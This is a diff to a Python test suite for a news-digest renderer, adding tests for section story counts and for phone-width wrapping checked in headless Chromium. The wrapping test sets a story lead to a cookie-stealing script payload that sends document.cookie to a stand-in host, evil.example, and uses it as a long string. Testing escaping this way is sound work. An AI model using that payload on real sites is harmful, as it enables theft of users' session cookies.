@@ -54,6 +54,55 @@ def test_each_story_appears_once_under_its_best_topic_with_other_topics_as_label
     assert d.subject.startswith("Test monitor · Mon 30 Nov 2026 · 4 stories: Title 1")
 
 
+def test_each_section_names_its_stories_shown_above_so_its_count_adds_up():
+    """A tester: "US–Cuba dialogue 7" in the table of topics had 4 stories under it, and topics
+    counted there had no section at all (every story of theirs was a top story or under a
+    stronger topic). Each section now links the stories of its topic shown under other headings."""
+    articles = [row(1, 10, "a", {"energy": 9.0, "dialogue": 5.0}),
+                row(2, 10, "b", {"dialogue": 6.0}),
+                row(3, 11, "a", {"remit": 7.0}),
+                row(4, 12, "c", {"remit": 4.0, "energy": 4.5})]
+    d = build(articles, {10: [stored("a", 1), stored("b", 2)]}, top=1)
+    sections = {s.topic_id: s for s in d.sections}
+    for section in d.sections:   # what is counted is under the section or linked from it
+        assert len(section.entries) + len(section.elsewhere) == section.story_count
+    assert [e.story_key for e in sections["dialogue"].elsewhere] == [10]   # the top story
+    assert sections["dialogue"].entries == []
+    assert [e.story_key for e in sections["energy"].elsewhere] == [10]    # its own top story too
+    html, text = render_digest(d)
+    assert 'id="dialogue"' in html and 'href="#dialogue"' in html
+    assert 'On US–Cuba dialogue, under other headings: <a href="#story10"' in html
+    assert 'id="story10"' in html and "On US–Cuba dialogue, under other headings: Title 1" in text
+
+
+def test_a_long_unbroken_string_from_the_web_wraps_on_a_phone(tmp_path):
+    """A tester's digest was 560 px wide on a 400 px screen: a lead held a long unbroken string
+    (an escaped <script> URL). Measured in headless Chromium, in a 400 px frame (Chromium lays a
+    window out no narrower than 500 px)."""
+    import shutil
+    import subprocess
+
+    import pytest
+
+    chromium = shutil.which("chromium") or shutil.which("chromium-browser")
+    if chromium is None:
+        pytest.skip("no Chromium (Debian package `chromium`)")
+    d = build([row(1, 1, "a", {"energy": 9.0}, title="Apagones " + "x" * 120)], top=1)
+    d.top[0].lead = "<script>document.location='http://evil.example/'+document.cookie" + "y" * 80
+    html, _ = render_digest(d)
+    (tmp_path / "digest.html").write_text(html, encoding="utf-8")
+    (tmp_path / "frame.html").write_text(
+        "<html><body><iframe id='f' src='digest.html' style='width:400px;height:800px;border:0'>"
+        "</iframe><script>document.getElementById('f').onload = function () {"
+        "var doc = this.contentDocument.documentElement;"
+        "document.title = 'width=' + doc.scrollWidth; };</script></body></html>", encoding="utf-8")
+    out = subprocess.run([chromium, "--headless", "--no-sandbox", "--disable-gpu",
+                          "--allow-file-access-from-files", "--virtual-time-budget=3000", "--dump-dom",
+                          f"file://{tmp_path / 'frame.html'}"], capture_output=True, text=True, timeout=60)
+    width = int(out.stdout.split("<title>width=", 1)[1].split("<", 1)[0])
+    assert width <= 400, f"the digest is {width} px wide in a 400 px frame"
+
+
 def test_a_reader_gets_only_their_topics_and_the_cap_counts_the_rest():
     articles = [row(i, 100 + i, "a", {"energy": 5.0 + i}) for i in range(8)]
     articles.append(row(50, 150, "b", {"remit": 9.0, "energy": 1.0}))
